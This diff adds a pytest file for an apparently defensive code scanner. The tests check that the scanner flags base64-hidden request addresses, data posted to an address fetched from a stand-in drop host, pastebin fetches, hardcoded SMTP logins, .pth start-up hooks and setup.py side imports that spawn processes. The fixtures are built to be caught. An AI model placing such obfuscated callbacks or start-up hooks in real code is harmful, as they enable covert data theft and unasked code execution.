@@ -1,0 +1,116 @@
+"""Network: how a call gets its address, what it hands over, and who it says it is."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from tests.sources import code_evidence, features, places
+
+_HIDDEN = base64.b64encode(b"https://callback.example.co/drop").decode()
+
+
+def _seen(source: str, path: str = "demo/client.py") -> set[str]:
+    return features(code_evidence({path: source}))
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"import base64, requests\nrequests.get(base64.b64decode('{_HIDDEN}').decode())\n",
+        "import base64, requests\ndef f(x):\n  requests.post(base64.b64decode(x).decode(), json={})",
+        "from urllib.request import urlopen\nfrom zlib import decompress\n"
+        "def f(data):\n    return urlopen(decompress(data).decode()).read()\n",
+    ],
+)
+def test_an_address_that_is_decoded_first_is_seen(source: str) -> None:
+    assert "net_hidden_address" in _seen(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64, requests\n"
+        "def f(x):\n    requests.post('https://api.example.co', data=base64.b64decode(x))\n",
+        "import base64, requests\n"
+        "def f(x):\n    requests.get(f'https://api.example.co/{base64.b64decode(x)}')\n",
+        "import requests\ndef f(url):\n    return requests.get(url)\n",
+    ],
+)
+def test_data_that_is_decoded_does_not_hide_the_address(source: str) -> None:
+    assert "net_hidden_address" not in _seen(source)
+
+
+def test_an_address_that_another_one_answers_is_seen_where_it_is_used() -> None:
+    source = """\
+        import requests
+        def send(text):
+            where = requests.get("https://drop.example.co/where").text.strip()
+            requests.post(where, json={"t": text})
+        """
+    assert places(code_evidence({"demo/a.py": source}), "net_fetched_address") == {("demo/a.py", 4)}
+
+
+def test_a_link_in_an_answer_is_followed_by_honest_clients() -> None:
+    source = """\
+        import requests
+        def pages(url):
+            while url:
+                answer = requests.get(url).json()
+                yield answer
+                url = answer["next"]
+        """
+    assert "net_fetched_address" not in _seen(source)
+
+
+def test_sending_counts_apart_from_fetching() -> None:
+    fetching = "import requests\ndef f():\n    return requests.get('https://some.example.co')\n"
+    sending = "import requests\ndef f(x):\n    requests.post('https://some.example.co', json=x)\n"
+    assert "net_sends_unnamed" not in _seen(fetching)
+    assert "net_sends_unnamed" in _seen(sending)
+
+
+def test_a_host_that_anyone_can_use_counts_where_code_goes_there() -> None:
+    source = "import requests\ndef f():\n    requests.get('https://pastebin.com/raw/abc')\n"
+    assert "net_suspicious_host" in _seen(source)
+    assert "net_suspicious_host" not in _seen("LINK = 'https://pastebin.com/raw/abc'\n")
+
+
+@pytest.mark.parametrize(
+    ("source", "carries"),
+    [
+        ("s.login('me@mail.example', 'abcd efgh')", True),
+        ("s.login(user, password)", False),
+        ("s.login(os.environ['USER'], os.environ['PASS'])", False),
+    ],
+)
+def test_a_login_is_fixed_if_name_and_password_are_written_out(source: str, carries: bool) -> None:
+    code = (
+        "import os, smtplib\ndef f(user, password):\n"
+        f"    s = smtplib.SMTP('smtp.example.co', 587)\n    {source}\n"
+    )
+    assert ("fixed_login" in _seen(code)) is carries
+
+
+def test_what_a_start_up_file_imports_acts_at_every_start() -> None:
+    evidence = code_evidence(
+        {
+            "demo_init.pth": "import _demo_boot\n",
+            "_demo_boot.py": "import os\nos.system('echo look-alike')\n",
+            "demo/__init__.py": "",
+        }
+    )
+    assert places(evidence, "startup_acts") == {("_demo_boot.py", 2)}
+
+
+@pytest.mark.parametrize("folder", ["docs", "scripts", "examples"])
+def test_what_a_setup_script_imports_from_a_side_folder_is_read(folder: str) -> None:
+    evidence = code_evidence(
+        {
+            "setup.py": f"from {folder}.x import y\nfrom setuptools import setup\nsetup()\n",
+            f"{folder}/x.py": "import os\nos.system('echo look-alike')\n",
+            "demo/__init__.py": "",
+        }
+    )
+    assert places(evidence, "proc_spawn_unasked") == {(f"{folder}/x.py", 2)}
